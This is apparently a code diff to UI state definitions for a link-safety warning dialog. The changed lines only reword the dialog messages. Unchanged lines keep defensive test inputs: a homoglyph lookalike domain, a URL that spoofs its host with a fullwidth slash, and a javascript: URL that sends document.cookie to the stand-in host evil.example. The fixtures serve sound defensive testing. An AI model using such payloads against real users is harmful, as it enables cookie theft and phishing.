@@ -40,7 +40,7 @@ export const states: ElementStates<PorticoLinkPrompt> = {
         { id: 'mixed', value: 'exаmple.com' },
       ]),
       tree: [
-        'alertdialog "This link may be posing as another site"',
+        'alertdialog "This link may be impersonating another site"',
         'button "Open anyway"',
         'button "Do not open"',
       ],
@@ -53,7 +53,7 @@ export const states: ElementStates<PorticoLinkPrompt> = {
     ]),
     program: {
       ...asking('javascript:fetch("https://evil.example/"+document.cookie)'),
-      tree: ['alertdialog "This link cannot be opened"', 'button "Close"'],
+      tree: ['alertdialog "This link can’t be opened"', 'button "Close"'],
     },
     unreadable: asking('https://evil.example％2foa.example.com/'),
     refused: {
